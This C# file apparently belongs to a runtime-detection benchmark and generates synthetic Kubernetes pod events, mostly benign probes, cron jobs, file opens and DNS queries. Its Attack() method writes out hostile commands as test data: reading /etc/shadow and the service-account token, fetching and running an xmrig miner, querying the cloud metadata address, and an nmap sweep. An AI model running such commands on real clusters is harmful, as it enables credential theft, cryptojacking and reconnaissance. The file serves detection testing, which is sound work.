using Google.Protobuf;
using Vigil.Contracts.Events.V1;

namespace Vigil.Benchmarks.Detection;

/// <summary>
/// A deterministic stream of one pod's runtime events, as its node's sensor would send them: mostly benign execs
/// (probes, cron jobs and the helpers a server starts, 3 to 6 ancestors), exits, file opens, connects and DNS
/// queries by the server, and with probability <see cref="MaliciousShare"/> one of the attacks the rules are for.
/// </summary>
public sealed class RuntimeEventMix
{
    public const double MaliciousShare = 0.002;

    private const uint OpenWriteCreateTruncate = 0x241;
    private const int MaxRunning = 64;

    private static readonly string[] CommonReads =
        ["/etc/resolv.conf", "/etc/hosts", "/etc/ssl/certs/ca-certificates.crt", "/proc/self/status", "/etc/localtime", "/etc/passwd"];

    private static readonly (string Name, byte[] Address, uint Port)[] Services =
    [
        ("postgres", [10, 96, 12, 7], 5432),
        ("redis", [10, 96, 40, 3], 6379),
        ("search", [10, 96, 88, 20], 9200),
        ("kubernetes.default", [10, 96, 0, 1], 443),
    ];

    private static readonly (string Name, byte[] Address)[] External =
        [("api.github.com", [140, 82, 112, 6]), ("sts.amazonaws.com", [52, 94, 236, 248]), ("hooks.slack.com", [34, 226, 36, 50])];

    private static readonly ByteString Resolver = ByteString.CopyFrom(10, 96, 0, 10);

    private readonly SyntheticPod _pod;
    private readonly ProcessTree _tree;
    private readonly Random _random;
    private readonly ByteString _podAddress;
    private readonly List<(Process Process, Process[] Ancestors)> _running = [];
    private long _time;

    public RuntimeEventMix(SyntheticPod pod, int seed)
    {
        _pod = pod;
        _tree = new ProcessTree(pod);
        _random = new Random(seed);
        _podAddress = ByteString.CopyFrom(10, 244, (byte)(pod.Index / 50 % 256), (byte)(pod.Index % 50 + 2));
        _time = 1_740_787_200_000_000_000 + pod.Index * 1_000_000L;
    }

    public int Malicious { get; private set; }

    public RuntimeEvent Next()
    {
        _time += _random.Next(50_000, 5_000_000);
        if (_random.NextDouble() < MaliciousShare)
        {
            Malicious++;
            return Attack();
        }
        return _random.Next(100) switch
        {
            < 25 => BenignExec(),
            < 42 => Exit(),
            < 72 => FileOpen(),
            < 88 => Connect(),
            _ => Dns(),
        };
    }

    public RuntimeEvent[] Take(int count)
    {
        var events = new RuntimeEvent[count];
        for (var i = 0; i < count; i++)
        {
            events[i] = Next();
        }
        return events;
    }

    private RuntimeEvent BenignExec()
    {
        var t = _tree;
        var n = _random.Next(1_000).ToString("d3", System.Globalization.CultureInfo.InvariantCulture);
        switch (_random.Next(6))
        {
            case 0:
                // An exec probe: the kubelet runs sh -c under the shim, the shell runs the check.
                var probe = t.Spawn(_pod, t.Shim, "/bin/sh", "-c", "curl -fsS http://127.0.0.1:8080/healthz");
                return Exec(t.Spawn(_pod, probe, "/usr/bin/curl", "-fsS", "http://127.0.0.1:8080/healthz"), [probe, t.Shim, t.Systemd]);
            case 1:
                return Exec(t.Spawn(_pod, t.Cron, "/bin/sh", "-c", "/app/jobs/cleanup.sh"), [t.Cron, .. t.CronAncestry]);
            case 2:
                var job = t.Spawn(_pod, t.Cron, "/bin/sh", "-c", "/app/jobs/cleanup.sh");
                return Exec(t.Spawn(_pod, job, "/usr/bin/find", "/tmp", "-type", "f", "-mmin", "+60", "-delete"), [job, t.Cron, .. t.CronAncestry]);
            case 3:
                var report = t.Spawn(_pod, t.Cron, "/bin/sh", "-c", "python3 /app/jobs/report.py");
                var python = t.Spawn(_pod, report, "/usr/local/bin/python3", "/app/jobs/report.py", "--since", "1h");
                return Exec(t.Spawn(_pod, python, "/usr/bin/gzip", "-9", $"/var/lib/app/report-{n}.csv"), [python, report, t.Cron, .. t.CronAncestry]);
            default:
                return ServerHelper(n);
        }
    }

    /// <summary>What the pod's server itself starts; servers that start nothing get another cron job.</summary>
    private RuntimeEvent ServerHelper(string n)
    {
        var t = _tree;
        Process? helper = _pod.Workload switch
        {
            WorkloadKind.Gunicorn => t.Spawn(_pod, t.Server, "/usr/bin/convert", $"/tmp/upload-{n}.png", "-resize", "512x512", $"/tmp/thumb-{n}.webp"),
            WorkloadKind.Java => t.Spawn(_pod, t.Server, "/usr/bin/fc-list", ":", "family"),
            WorkloadKind.Node => t.Spawn(_pod, t.Server, "/usr/local/bin/node", "/app/workers/render.js", $"--job={n}"),
            _ => null,
        };
        return helper is null
            ? Exec(t.Spawn(_pod, t.Cron, "/usr/bin/logrotate", "/etc/logrotate.conf"), [t.Cron, .. t.CronAncestry])
            : Exec(helper, [t.Server, .. t.ServerAncestry]);
    }

    private RuntimeEvent Exit()
    {
        if (_running.Count == 0)
        {
            return FileOpen();
        }
        var index = _random.Next(_running.Count);
        var (process, ancestors) = _running[index];
        _running.RemoveAt(index);
        return Event(process, ancestors, e => e.Exit = new ProcessExit());
    }

    private RuntimeEvent FileOpen()
    {
        var n = _random.Next(200);
        if (_random.Next(5) == 0)
        {
            var written = _pod.Workload switch
            {
                WorkloadKind.Nginx => $"/var/cache/nginx/proxy_temp/{n % 10}/{n:d5}",
                WorkloadKind.Java => $"/tmp/hsperfdata_root/spool-{n}",
                _ => $"/tmp/cache/{n:x4}.bin",
            };
            return File(_tree.Server, _tree.ServerAncestry, written, OpenWriteCreateTruncate);
        }
        var path = _random.Next(3) == 0 ? CommonReads[n % CommonReads.Length] : _pod.Workload switch
        {
            WorkloadKind.Nginx => n % 4 == 0 ? "/etc/nginx/conf.d/default.conf" : $"/usr/share/nginx/html/assets/app.{n:x4}.js",
            WorkloadKind.Gunicorn => $"/usr/local/lib/python3.12/site-packages/app/templates/page_{n}.html",
            // Client libraries re-read the projected token; that is normal, a shell reading it is not.
            WorkloadKind.Java => n % 10 == 0 ? "/var/run/secrets/kubernetes.io/serviceaccount/token" : "/opt/java/openjdk/lib/modules",
            WorkloadKind.Node => $"/app/node_modules/.pnpm/lib-{n}/dist/index.js",
            _ => "/proc/self/stat",
        };
        return File(_tree.Server, _tree.ServerAncestry, path, 0);
    }

    private RuntimeEvent Connect()
    {
        if (_random.Next(10) == 0)
        {
            return Connect(External[_random.Next(External.Length)].Address, 443);
        }
        var service = Services[_random.Next(Services.Length)];
        return Connect(service.Address, service.Port);
    }

    private RuntimeEvent Connect(byte[] address, uint port) =>
        Event(_tree.Server, _tree.ServerAncestry, e => e.Connect = new NetworkConnect
        {
            SourceAddress = _podAddress,
            SourcePort = (uint)_random.Next(32_768, 61_000),
            DestinationAddress = ByteString.CopyFrom(address),
            DestinationPort = port,
            Protocol = Protocol.Tcp,
        });

    private RuntimeEvent Dns()
    {
        if (_random.Next(4) == 0)
        {
            var (name, address) = External[_random.Next(External.Length)];
            return Dns(name, address);
        }
        var service = Services[_random.Next(Services.Length)];
        return Dns($"{service.Name}.{_pod.Namespace}.svc.cluster.local", service.Address);
    }

    private RuntimeEvent Dns(string query, byte[] answer)
    {
        var dns = new DnsQuery { Query = query, QueryType = 1, Answered = true, ServerAddress = Resolver };
        dns.AnswerAddresses.Add(ByteString.CopyFrom(answer));
        return Event(_tree.Server, _tree.ServerAncestry, e => e.Dns = dns);
    }

    private RuntimeEvent Attack()
    {
        var t = _tree;
        Process[] underServer = [t.Server, .. t.ServerAncestry];
        switch (_random.Next(8))
        {
            case 0 when _pod.Workload != WorkloadKind.Go:
                return Exec(t.Spawn(_pod, t.Server, "/bin/sh", "-c", "id; uname -a; cat /etc/passwd"), underServer);
            case 1:
                var shell = t.Spawn(_pod, t.Server, "/bin/sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token");
                var cat = t.Spawn(_pod, shell, "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token");
                return File(cat, [shell, .. underServer], "/var/run/secrets/kubernetes.io/serviceaccount/token", 0);
            case 2:
                return Exec(t.Spawn(_pod, t.Server, "/tmp/.x/xmrig", "--donate-level", "1", "-o", "stratum+tcp://pool.supportxmr.com:3333"), underServer);
            case 3:
                return Exec(t.Spawn(_pod, t.Server, "/usr/bin/curl", "-sLo", "/tmp/.x/xmrig", "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"), underServer);
            case 4:
                return Dns("pool.supportxmr.com", [141, 94, 96, 144]);
            case 5:
                return Connect([169, 254, 169, 254], 80);
            case 6:
                return Exec(t.Spawn(_pod, t.Server, "/usr/bin/nmap", "-sS", "-p", "1-65535", "10.244.0.0/16"), underServer);
            default:
                var reader = t.Spawn(_pod, t.Server, "/bin/cat", "/etc/shadow");
                return File(reader, underServer, "/etc/shadow", 0);
        }
    }

    private RuntimeEvent Exec(Process process, Process[] ancestors)
    {
        if (_running.Count >= MaxRunning)
        {
            _running.RemoveAt(0);
        }
        _running.Add((process, ancestors));
        return Event(process, ancestors, e => e.Exec = new ProcessExec());
    }

    private RuntimeEvent File(Process process, Process[] ancestors, string path, uint flags) =>
        Event(process, ancestors, e => e.File = new FileActivity { Operation = FileOperation.Open, Path = path, Flags = flags, Mode = flags == 0 ? 0u : 420u });

    private RuntimeEvent Event(Process process, Process[] ancestors, Action<RuntimeEvent> kind)
    {
        var value = new RuntimeEvent
        {
            Context = new EventContext
            {
                Cluster = _pod.Cluster,
                Node = _pod.Node,
                ContainerId = _pod.ContainerId,
                ContainerName = _pod.Container,
                Image = _pod.Image,
                PodUid = _pod.Uid,
                PodNamespace = _pod.Namespace,
                PodName = _pod.Name,
                TimeUnixNano = _time,
            },
            Process = process,
        };
        // Shared, not cloned: the grain reads ancestors and copies before it extends them.
        value.Ancestors.AddRange(ancestors);
        kind(value);
        return value;
    }
}
